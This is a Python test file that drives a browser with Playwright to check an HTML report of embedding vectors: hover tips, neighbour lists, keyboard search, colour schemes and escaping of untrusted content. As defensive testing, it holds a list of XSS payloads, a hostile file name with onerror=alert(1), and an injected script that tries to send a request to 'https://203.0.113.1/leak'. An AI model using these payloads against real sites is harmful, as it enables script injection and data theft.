"""The page as its reader has it: in a browser, with pointer and keyboard, and hostile content."""

from __future__ import annotations

import re
from pathlib import Path

import numpy as np
import pytest
from browser import OpenPage, running_browser
from outputs import report, write
from playwright.sync_api import expect

from fnet_cli.reporting import building

ROWS = 40
# What pages have been broken with: ends of scripts, markup, templates and links.
HOSTILE = [
    "</script><script>window.broken=1</script>",
    "<img src=x onerror='window.broken=1'>",
    "<!--<script>",
    '<a href="javascript:window.broken=1">x</a><b>bold</b>',
    "%{x} $\\alpha$ &lt;i&gt; ]]> \u2028 ${window.broken=1}",
    "<svg/onload=window.broken=1>",
]
TICKS = {"light": "rgb(91, 104, 120)", "dark": "rgb(154, 168, 184)"}
COLUMN = "<img src=x onerror=window.broken=1>"


@pytest.fixture(scope="module")
def browser():
    with running_browser() as started:
        yield started


def on_a_circle() -> np.ndarray:
    """Vectors whose directions lie on a circle: each is nearest to those beside it."""
    angles = np.linspace(0, 2 * np.pi, ROWS, endpoint=False) + np.arange(ROWS) ** 2 * 1e-4
    return np.stack([np.cos(angles), np.sin(angles), np.zeros(ROWS)], axis=1).astype(np.float32)


@pytest.fixture(scope="module")
def plain(tmp_path_factory) -> Path:
    directory = tmp_path_factory.mktemp("plain")
    columns = {"text": [f"sentence number {i}" for i in range(ROWS)], "n": np.arange(ROWS) * 1.5}
    columns["text"][7] = "Café au lait"
    source = write(directory / "x.parquet", on_a_circle(), columns, pooling="mean")
    report(source, directory / "x.html")
    return directory / "x.html"


def test_a_point_is_told_when_hovered_and_shows_its_neighbours_when_clicked(browser, plain):
    opened = OpenPage(browser, plain)
    opened.page.mouse.move(*opened.middle_of_point(11))
    opened.page.wait_for_selector("#tip:not([hidden])")
    tip = opened.text("#tip")
    assert "sentence number 11" in tip
    assert re.search(r"n\s+16.5", tip)
    opened.page.mouse.click(*opened.middle_of_point(11))
    opened.page.wait_for_selector("#neighbours")
    assert opened.texts(".chosen .said") == ["sentence number 11"]
    cosines = on_a_circle().astype(np.float64) @ on_a_circle()[11]
    nearest = [row for row in np.argsort(-cosines) if row != 11][:10]
    assert opened.texts("#neighbours .where") == [f"row {row}" for row in nearest]
    assert opened.texts("#neighbours .score")[0].strip() == f"{cosines[nearest[0]]:.3f}"
    opened.page.locator("#neighbours button").nth(1).click()
    assert opened.texts(".chosen .said") == [f"sentence number {nearest[1]}"]
    opened.page.get_by_role("button", name="Back").click()
    assert opened.texts(".chosen .said") == ["sentence number 11"]
    buttons = opened.page.locator("#map .modebar-btn")
    offered = {button.get_attribute("data-title") for button in buttons.all()}
    assert offered == {"Zoom", "Pan", "Zoom in", "Zoom out", "Reset axes", "Download plot as a PNG"}
    assert opened.left_alone(plain)


def test_the_search_works_by_keyboard_and_without_accents(browser, plain):
    opened = OpenPage(browser, plain)
    keyboard = opened.page.keyboard
    keyboard.press("Tab")
    keyboard.press("Enter")  # the link that skips to the search
    opened.page.get_by_label("Search the rows").focus()
    keyboard.type("number 3")
    opened.page.wait_for_selector("#results:not([hidden])")
    # 3 and 30 to 39, and rows of which a value or a number has a 3.
    assert "sentence number 3" in opened.texts("#results .said")
    keyboard.press("Escape")
    opened.page.wait_for_selector("#results", state="hidden")
    keyboard.type("cafe")
    opened.page.wait_for_selector("#results:not([hidden])")
    assert opened.text("#matches") == "1 row matches"
    keyboard.press("ArrowDown")
    keyboard.press("Enter")
    assert opened.texts(".chosen .said") == ["Café au lait"]
    assert opened.page.locator("#map .trace").nth(1).locator(".point").count() == 1
    assert opened.left_alone(plain)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    directory = tmp_path_factory.mktemp("hostile")
    texts = [HOSTILE[i % len(HOSTILE)] for i in range(ROWS)]
    vectors = on_a_circle()
    vectors[1] = vectors[0]
    columns = {"text": texts, COLUMN: texts[::-1], "__proto__": texts}
    name = directory / "<b>x<img src=x onerror=alert(1)>.parquet"
    stated = {COLUMN: HOSTILE[0], "preset": HOSTILE[1]}
    report(write(name, vectors, columns, **stated), directory / "x.html")
    return directory / "x.html"


def test_what_a_file_says_is_text_wherever_it_is_shown(browser, hostile):
    opened = OpenPage(browser, hostile)
    page = opened.page
    page.select_option("#colour", f"column:{COLUMN}")
    assert HOSTILE[0] in "".join(page.locator("#legend").all_text_contents())
    for row in range(4, 10):
        page.mouse.move(*opened.middle_of_point(row))
        expect(page.locator("#tip .said")).to_have_text(HOSTILE[row % len(HOSTILE)])
    page.mouse.click(*opened.middle_of_point(9))
    page.get_by_label("Search the rows").fill("broken")
    page.wait_for_selector("#results:not([hidden])")
    page.locator("#results button").nth(1).click()
    assert page.locator(".chosen .said").text_content() in HOSTILE
    assert HOSTILE[1] in page.locator("#metadata").text_content()
    assert "onerror=alert(1)" in page.locator("h1").text_content()
    foreign = "img, iframe, object, [onerror], [onload], main script, [href^=javascript]"
    assert page.locator(foreign).count() == 0
    assert page.evaluate("window.broken") is None
    assert opened.left_alone(hostile)


def test_a_script_that_got_into_the_page_would_not_run(browser, plain):
    opened = OpenPage(browser, plain)
    opened.page.evaluate(
        """() => {
            const script = document.createElement("script");
            script.textContent = "window.broken = 1";
            document.body.append(script);
            new Image().src = "https://203.0.113.1/leak";
            fetch("https://203.0.113.1/leak").catch(() => {});
        }"""
    )
    opened.page.wait_for_timeout(200)
    assert opened.page.evaluate("window.broken") is None
    assert all("Content Security Policy" in error for error in opened.errors)
    assert len(opened.errors) >= 3


def test_a_narrow_page_fits_and_follows_the_scheme(browser, plain):
    opened = OpenPage(browser, plain, viewport={"width": 400, "height": 800})
    for scheme in ("light", "dark"):
        opened.page.emulate_media(color_scheme=scheme)
        assert opened.page.evaluate("document.documentElement.scrollWidth") == 400
        ground = opened.page.evaluate("getComputedStyle(document.body).backgroundColor")
        assert (sum(map(int, re.findall(r"\d+", ground))) > 380) == (scheme == "light")
        tick = opened.page.locator("#lengths .xtick text").first
        expect(tick).to_have_css("fill", TICKS[scheme])
    assert opened.left_alone(plain)


def test_many_rows_are_drawn_and_an_empty_file_says_so(browser, tmp_path, monkeypatch):
    monkeypatch.setattr(building, "MOST_SVG_POINTS", 50)
    random = np.random.default_rng(0)
    many = random.standard_normal((60, 3)).astype(np.float32)
    report(write(tmp_path / "m.parquet", many), tmp_path / "m.html")
    # As on a machine without graphics; where there are some, canvases take the place of points.
    hide = "HTMLCanvasElement.prototype.getContext = () => null;"
    for before, drawn in (("", "#map .gl-canvas"), (hide, "#map .point")):
        opened = OpenPage(browser, tmp_path / "m.html", before)
        assert opened.page.locator(drawn).count() > 0
        assert opened.left_alone(tmp_path / "m.html")
        opened.page.close()
    report(write(tmp_path / "e.parquet", many[:0]), tmp_path / "e.html")
    opened = OpenPage(browser, tmp_path / "e.html")
    assert opened.text("#lead") == "All 0 rows."
    assert "no row to show" in opened.text("#details")
    assert opened.left_alone(tmp_path / "e.html")
